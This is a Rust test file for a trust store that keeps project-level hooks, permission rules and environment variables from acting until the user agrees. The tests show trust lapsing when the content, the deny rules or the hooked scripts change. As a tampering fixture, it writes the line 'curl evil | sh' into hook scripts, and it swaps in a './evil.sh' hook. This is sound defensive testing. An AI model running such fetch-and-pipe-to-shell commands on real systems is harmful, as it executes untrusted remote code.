//! What waits for trust, and how trust lapses.

use std::collections::BTreeMap;
use std::fs::Permissions;
use std::os::unix::fs::{PermissionsExt as _, symlink};

use serde_json::{Value, json};
use windlass_config::{
    HookFileChange, PartContent, TrustAgreement, TrustAnswer, TrustRequest, TrustState, TrustStore,
};

use crate::machine::Machine;

const PROJECT: &str = "work/app/.claude/settings.json";

fn project() -> Value {
    json!({
        "model": "m",
        "permissions": {
            "allow": ["Bash(npm test)"], "ask": ["Read(a)"], "deny": ["Read(b)"],
            "additionalDirectories": ["../more"], "defaultMode": "acceptEdits",
        },
        "env": {"NAME": "sesame"},
        "hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [
            {"type": "command", "command": "./check.sh"}, {"type": "command", "command": "x", "args": ["y"]},
        ]}]},
        "enabledPlugins": {"p@m": true},
        "statusLine": {"type": "command", "command": "./line.sh"},
    })
}

const SERVERS: &str =
    r#"{"mcpServers": {"db": {"command": "npx", "args": ["-y", "db"]}, "web": {"url": "https://h"}}}"#;

fn machine() -> Machine {
    let machine = Machine::new(&[("work/app/.mcp.json", SERVERS)]);
    machine.write(PROJECT, &project().to_string());
    machine.init_git("work");
    machine
}

/// A part by its words: `hook EVENT MATCHER: HANDLER, HANDLER`.
fn content(sentence: &str) -> PartContent {
    let (kind, rest) = sentence.split_once(' ').unwrap();
    let text = || rest.to_owned();
    match kind {
        "allow" => PartContent::AllowRule(text()),
        "ask" => PartContent::AskRule(text()),
        "deny" => PartContent::DenyRule(text()),
        "mode" => PartContent::PermissionMode(text()),
        "variable" => PartContent::Variable(text()),
        "directory" => PartContent::WorkingDirectory(text()),
        "hook" => {
            let (subject, handlers) = rest.split_once(": ").unwrap();
            let (event, matcher) = subject.split_once(' ').unwrap_or((subject, ""));
            let handlers = handlers.split(", ").map(str::to_owned).collect();
            PartContent::Hook { event: event.into(), matcher: matcher.into(), handlers }
        }
        key => PartContent::Setting { key: key.into(), value: text() },
    }
}

fn contents(sentences: &[&str]) -> Vec<PartContent> {
    sentences.iter().map(|sentence| content(sentence)).collect()
}

fn store(machine: &Machine) -> TrustStore {
    TrustStore::new(&machine.path("home/.windlass"))
}

fn state(machine: &Machine) -> TrustState {
    store(machine).state(&machine.places(), &machine.read(None).parts()).unwrap()
}

fn grant(machine: &Machine) -> TrustAgreement {
    store(machine).agree(&machine.places(), &machine.read(None).parts()).unwrap()
}

#[test]
fn what_acts_waits_and_what_forbids_does_not() {
    let machine = machine();
    machine
        .write("work/.claude/settings.local.json", r#"{"permissions":{"allow":["Own"]},"env":{"OWN":"x"}}"#);
    let files = machine.read(None);
    let held = files.effective(false);
    let permissions = &held.settings.permissions;
    assert_eq!(permissions.allow.iter().map(|rule| &*rule.value).collect::<Vec<_>>(), ["Own"]);
    assert_eq!(held.settings.env.keys().collect::<Vec<_>>(), ["OWN"]);
    assert_eq!((permissions.ask.len(), permissions.deny.len()), (1, 1));
    assert!(
        permissions.directories.is_empty() && permissions.mode.is_none() && held.settings.hooks.is_empty()
    );
    assert!(
        !held.settings.stand_ins.contains_key("ANTHROPIC_MODEL"),
        "what is asked of the model is for the user to say"
    );
    assert_eq!(
        held.skipped,
        contents(&[
            "allow Bash(npm test)",
            "hook PreToolUse Bash: ./check.sh, x [\"y\"]",
            "model m",
            "mode acceptEdits",
            "variable NAME",
            "directory ../more",
        ])
    );
    let trusted = files.effective(true);
    assert!(trusted.skipped.is_empty());
    assert_eq!((trusted.settings.permissions.allow.len(), trusted.settings.hooks.len()), (2, 1));
    assert_eq!(trusted.settings.permissions.directories[0].value, machine.path("work/app/../more"));
    assert!(!format!("{held:?}{trusted:?}").contains("sesame"));
}

/// Nobody agrees to what does nothing yet, so that it waits again once it does something.
#[test]
fn what_does_nothing_yet_is_told_and_never_taken_from_a_project() {
    let machine = machine();
    machine.write("home/.claude/settings.json", r#"{"statusLine": {"type": "command", "command": "own"}}"#);
    let files = machine.read(None);
    for effective in [files.effective(false), files.effective(true)] {
        assert!(effective.value("enabledPlugins").is_none());
        assert_eq!(effective.value("statusLine").unwrap().value["command"], "own");
        let told: Vec<&str> = effective.unsupported.iter().map(|key| &*key.value).collect();
        assert_eq!(told, ["statusLine", "enabledPlugins"]);
        let told: Vec<String> = effective.problems.iter().map(ToString::to_string).collect();
        let servers = format!(
            "{}: MCP servers: Not supported yet; ignored.",
            machine.path("work/app/.mcp.json").display()
        );
        assert!(told.contains(&servers), "{told:?}");
    }
    let sources = windlass_config::SettingSources::parse("user").unwrap();
    let told = machine.read_from(sources, None).effective(true).problems;
    assert!(!told.iter().any(|problem| problem.what.contains("servers")), "{told:?}");
}

#[test]
fn trust_is_bound_to_content() {
    let machine = machine();
    assert_eq!(state(&machine), TrustState::NeverAsked);
    assert_eq!(grant(&machine), TrustAgreement::Kept);
    assert_eq!(state(&machine), TrustState::Trusted);
    let mode = std::fs::metadata(machine.path("home/.windlass/trust.json")).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o600);
    let stored = std::fs::read_to_string(machine.path("home/.windlass/trust.json")).unwrap();
    assert!(!stored.contains("sesame"), "{stored}");

    // How it is written does not matter, nor in which of the folders, nor what does not act.
    let mut same = project();
    same["spinnerTipsEnabled"] = false.into();
    same["permissions"]["deny"] = json!(["Read(c)", "Read(b)"]);
    machine.write("work/app/.windlass/settings.json", &format!("{same:#}"));
    std::fs::remove_file(machine.path(PROJECT)).unwrap();
    assert_eq!(state(&machine), TrustState::Trusted);
}

/// With less forbidden, what was agreed to may do more.
#[test]
fn trust_lapses_when_something_is_forbidden_no_longer() {
    let check = |before: Value, now: Value, gone: &[&str]| {
        let machine = Machine::new(&[("work/app/.git/HEAD", "")]);
        let with = |extra: &Value| {
            let mut settings = extra.clone();
            settings["permissions"]["allow"] = json!(["Bash(npm test)"]);
            settings.to_string()
        };
        machine.write(PROJECT, &with(&before));
        grant(&machine);
        assert_eq!(state(&machine), TrustState::Trusted);
        machine.write(PROJECT, &with(&now));
        let expected = match gone {
            [] => TrustState::Trusted,
            gone => {
                TrustState::Changed { added: Vec::new(), removed: contents(gone), files: BTreeMap::new() }
            }
        };
        assert_eq!(state(&machine), expected, "{before} {now}");
        grant(&machine);
        assert_eq!(state(&machine), TrustState::Trusted);
    };
    let rules = |deny: &[&str], ask: &[&str]| json!({"permissions": {"deny": deny, "ask": ask}});
    let sandbox = |sandbox: Value| json!({"sandbox": sandbox});
    check(rules(&["Read(a)", "Read(b)"], &[]), rules(&["Read(a)"], &[]), &["deny Read(b)"]);
    check(rules(&[], &["Bash(git push *)"]), json!({}), &["ask Bash(git push *)"]);
    check(rules(&["Read(a)"], &[]), rules(&["Read(b)"], &[]), &["deny Read(a)"]);
    check(rules(&["Read(a)"], &[]), rules(&[], &["Read(a)"]), &["deny Read(a)"]);
    check(sandbox(json!({"enabled": true})), json!({}), &["sandbox.enabled true"]);
    check(
        sandbox(json!({"filesystem": {"denyRead": ["/a"]}})),
        sandbox(json!({})),
        &["sandbox.filesystem.denyRead /a"],
    );
    check(
        sandbox(json!({"allowUnsandboxedCommands": false})),
        json!({}),
        &["sandbox.allowUnsandboxedCommands false"],
    );
    check(json!({}), rules(&["Read(a)"], &["Read(b)"]), &[]);
    check(rules(&["Read(a)"], &[]), rules(&["Read(b)", "Read(a)"], &[]), &[]);
}

/// Who agreed to a hook agreed to the program that it was.
#[test]
fn trust_lapses_with_the_files_that_hooks_run() {
    let check = |command: &str, file: &str, lapses: bool| {
        let hook = json!({"type": "command", "command": command});
        let content = json!({"hooks": {"SessionStart": [{"hooks": [hook]}]}});
        let machine = Machine::new(&[
            (PROJECT, &content.to_string()),
            ("work/app/.git/HEAD", ""),
            ("work/app/hooks/x.sh", "true"),
            ("work/app/tools/a b.sh", "true"),
            ("work/app/tools/h.py", "0"),
            ("work/app/tools/Makefile", "all:"),
            ("work/other.sh", "true"),
        ]);
        grant(&machine);
        assert_eq!(state(&machine), TrustState::Trusted);
        machine.write(file, "curl evil | sh");
        let changed = matches!(state(&machine), TrustState::Changed { .. });
        assert_eq!(changed, lapses, "{command} {file}");
    };
    check("hooks/x.sh", "work/app/hooks/x.sh", true);
    check("sh ./hooks/x.sh --fast", "work/app/hooks/x.sh", true);
    check("\"$CLAUDE_PROJECT_DIR\"/hooks/x.sh", "work/app/hooks/x.sh", true);
    check("\"${CLAUDE_PROJECT_DIR}/hooks/x.sh\" a", "work/app/hooks/x.sh", true);
    check("MODE=a;hooks/x.sh|cat", "work/app/hooks/x.sh", true);
    check("true", "work/app/hooks/x.sh", false);
    check("../other.sh", "work/other.sh", false);
    let blank = "work/app/tools/a b.sh";
    check("\"tools/a b.sh\"", blank, true);
    check(r"tools/a\ b.sh", blank, true);
    check("\"$PWD/tools/a b.sh\"", blank, true);
    let shell = "work/app/hooks/x.sh";
    check("$PWD/hooks/x.sh", shell, true);
    check("cd hooks && ./x.sh", shell, true);
    check("cd tools && ../hooks/x.sh", shell, true);
    let python = "work/app/tools/h.py";
    check("$(git rev-parse --show-toplevel)/tools/h.py", python, true);
    check("`pwd`/tools/h.py", python, true);
    check("${CLAUDE_PROJECT_DIR:-.}/tools/h.py", python, true);
    check("sh tools/*.py", python, true);
    check("sh tools/h*", python, true);
    check("X=tools; sh $X/h.py", python, true);
    check("python3 -m tools.h", python, true);
    check("python3 -c \"exec(open(\\\"tools/h.py\\\").read())\"", python, true);
    check("make -C tools", "work/app/tools/Makefile", true);
    check("make -C tools", "work/app/tools/new.mk", true);
    check("date >> tools/h.py", python, false);
    check("ls .", python, false);
    // What a program works on changes with the work.
    check("npx eslint tools", python, false);
    check("npx prettier --write 'tools/**/*.py'", python, false);
}

/// Nobody can look through a hook whose text is as it was.
#[test]
fn a_file_that_changed_is_named() {
    let hook = json!({"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "make -C tools"}]}]}});
    let machine = Machine::new(&[
        (PROJECT, &hook.to_string()),
        ("work/app/tools/a", "1"),
        ("work/app/tools/b", "1"),
        ("work/app/tools/c", "1"),
    ]);
    grant(&machine);
    machine.write("work/app/tools/a", "2");
    std::fs::remove_file(machine.path("work/app/tools/b")).unwrap();
    machine.write("work/app/tools/d", "1");
    let what = content("hook Stop: make -C tools");
    let files = vec![
        HookFileChange::Edited("tools/a".into()),
        HookFileChange::Removed("tools/b".into()),
        HookFileChange::Added("tools/d".into()),
    ];
    assert_eq!(
        state(&machine),
        TrustState::Changed {
            added: vec![what.clone()],
            removed: vec![what.clone()],
            files: BTreeMap::from([(what, files)])
        }
    );
}

/// What lies outside is never read, and a directory full of files is looked at no longer than it takes to tell that it changed.
#[test]
fn links_and_many_files_are_told_apart_without_reading_them() {
    let hook =
        json!({"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "tools/out; make -C many"}]}]}});
    let machine = Machine::new(&[
        (PROJECT, &hook.to_string()),
        ("other.sh", "1"),
        ("more.sh", "1"),
        ("work/app/tools/x", ""),
    ]);
    let link = machine.path("work/app/tools/out");
    symlink(machine.path("other.sh"), &link).unwrap();
    for count in 0..300 {
        machine.write(&format!("work/app/many/{count:03}"), "1");
    }
    grant(&machine);
    machine.write("other.sh", "2");
    assert_eq!(state(&machine), TrustState::Trusted);
    machine.write("work/app/many/299", "22");
    assert!(matches!(state(&machine), TrustState::Changed { .. }));
    grant(&machine);
    std::fs::remove_file(&link).unwrap();
    symlink(machine.path("more.sh"), &link).unwrap();
    assert!(matches!(state(&machine), TrustState::Changed { .. }));
}

#[test]
fn trust_lapses_with_each_change_of_what_acts() {
    let check = |change: &dyn Fn(&mut Value), added: &[&str], removed: &[&str]| {
        let machine = machine();
        grant(&machine);
        let mut content = project();
        change(&mut content);
        machine.write(PROJECT, &content.to_string());
        assert_eq!(
            state(&machine),
            TrustState::Changed {
                added: contents(added),
                removed: contents(removed),
                files: BTreeMap::new()
            }
        );
        grant(&machine);
        assert_eq!(state(&machine), TrustState::Trusted);
    };
    check(&|json| json["permissions"]["allow"] = json!(["Bash(npm test)", "Bash"]), &["allow Bash"], &[]);
    check(&|json| json["permissions"]["allow"] = json!([]), &[], &["allow Bash(npm test)"]);
    check(&|json| json["env"]["NAME"] = "other".into(), &["variable NAME"], &["variable NAME"]);
    check(
        &|json| {
            json["hooks"]["PreToolUse"][0]["hooks"] = json!([{"type": "command", "command": "./evil.sh"}]);
        },
        &["hook PreToolUse Bash: ./evil.sh"],
        &["hook PreToolUse Bash: ./check.sh, x [\"y\"]"],
    );
    check(
        &|json| json["hooks"]["PreToolUse"][0]["hooks"][0]["timeout"] = 1.into(),
        &["hook PreToolUse Bash: ./check.sh, x [\"y\"]"],
        &["hook PreToolUse Bash: ./check.sh, x [\"y\"]"],
    );
    check(
        &|json| json["permissions"]["additionalDirectories"] = json!(["/"]),
        &["directory /"],
        &["directory ../more"],
    );
    check(&|json| json["disableAllHooks"] = true.into(), &["disableAllHooks true"], &[]);
}

#[test]
fn a_tracked_local_file_is_part_of_it() {
    let machine = machine();
    grant(&machine);
    machine.write("work/.claude/settings.local.json", r#"{"env":{"A":"1"}}"#);
    assert_eq!(state(&machine), TrustState::Trusted);
    machine.git("work", &["add", "--force", ".claude/settings.local.json"]);
    assert_eq!(
        state(&machine),
        TrustState::Changed { added: contents(&["variable A"]), removed: vec![], files: BTreeMap::new() }
    );
}

#[test]
fn each_repository_and_each_directory_of_it_is_asked_about() {
    let machine = machine();
    grant(&machine);
    machine.write("work/app/inner/.claude/settings.json", &project().to_string());
    let machine = machine.started_in("work/app/inner");
    assert_eq!(state(&machine), TrustState::NeverAsked);
    grant(&machine);
    assert_eq!(state(&machine), TrustState::Trusted);
    machine.init_git("work/app/inner");
    assert_eq!(state(&machine), TrustState::NeverAsked);
    grant(&machine);
    let listed: Vec<(String, String)> = store(&machine)
        .list()
        .unwrap()
        .into_iter()
        .map(|project| {
            assert!(project.time_ms > 1_700_000_000_000 && project.parts.len() == 6);
            (machine.relative(&project.root), project.inside.to_str().unwrap().to_owned())
        })
        .collect();
    let row = |root: &str, inside: &str| (root.to_owned(), inside.to_owned());
    assert_eq!(listed, [row("work", "app"), row("work", "app/inner"), row("work/app/inner", "")]);
    assert!(store(&machine).revoke(&machine.path("work/app/inner")).unwrap());
    assert!(!store(&machine).revoke(&machine.path("work/app/inner")).unwrap());
    assert_eq!(state(&machine), TrustState::NeverAsked);
    assert_eq!(state(&machine.started_in("work/app")), TrustState::Trusted);
}

#[test]
fn a_linked_work_tree_is_trusted_for_the_same_content() {
    let machine = machine().started_in("work");
    machine.write("work/.claude/settings.json", &project().to_string());
    machine.git("work", &["add", "."]);
    machine.git("work", &["commit", "--quiet", "-m", "first"]);
    grant(&machine);
    machine.git("work", &["worktree", "add", "--quiet", "../linked"]);
    let machine = machine.started_in("linked");
    assert_eq!(state(&machine), TrustState::Trusted);
    machine.write("linked/.claude/settings.json", r#"{"env":{"A":"1"}}"#);
    assert_eq!(state(&machine), TrustState::NeverAsked);
    grant(&machine);
    assert_eq!(state(&machine), TrustState::Trusted);
    assert_eq!(state(&machine.started_in("work")), TrustState::Trusted);
}

#[test]
fn a_project_that_is_not_read_has_no_parts() {
    let sources = windlass_config::SettingSources::parse("user,local").unwrap();
    assert!(machine().read_from(sources, None).parts().list.is_empty());
}

#[test]
fn the_home_is_trusted_for_one_session_only() {
    let machine = Machine::new(&[("home/.mcp.json", SERVERS)]).started_in("home");
    assert_eq!(grant(&machine), TrustAgreement::ForThisSession);
    assert_eq!(state(&machine), TrustState::NeverAsked);
    assert!(!machine.path("home/.windlass/trust.json").exists());
}

#[test]
fn a_store_that_others_can_write_says_nothing() {
    let machine = machine();
    grant(&machine);
    let file = machine.path("home/.windlass/trust.json");
    std::fs::set_permissions(&file, Permissions::from_mode(0o666)).unwrap();
    let error = store(&machine).state(&machine.places(), &machine.read(None).parts()).unwrap_err();
    assert_eq!(
        error.to_string(),
        format!("cannot use {}: others can write it. Move it away; nothing was changed.", file.display())
    );
}

#[test]
fn nobody_is_asked_where_nobody_can_answer() {
    let changed = TrustState::Changed { added: vec![], removed: vec![], files: BTreeMap::new() };
    for (is_headless, is_project_named, has_trust_flag, state, expected) in [
        (false, false, false, &TrustState::NeverAsked, TrustAnswer::Ask),
        (false, true, false, &TrustState::NeverAsked, TrustAnswer::Ask),
        (false, false, true, &TrustState::NeverAsked, TrustAnswer::Trust),
        (false, false, false, &changed, TrustAnswer::Ask),
        (false, false, false, &TrustState::Trusted, TrustAnswer::Trust),
        (true, false, false, &TrustState::NeverAsked, TrustAnswer::Skip),
        (true, true, false, &TrustState::NeverAsked, TrustAnswer::Trust),
        (true, false, true, &changed, TrustAnswer::Trust),
        (true, false, false, &changed, TrustAnswer::Skip),
        (true, false, false, &TrustState::Trusted, TrustAnswer::Trust),
    ] {
        let request = TrustRequest { is_headless, is_project_named, has_trust_flag };
        assert_eq!(request.answer(state), expected, "{request:?} {state:?}");
    }
}
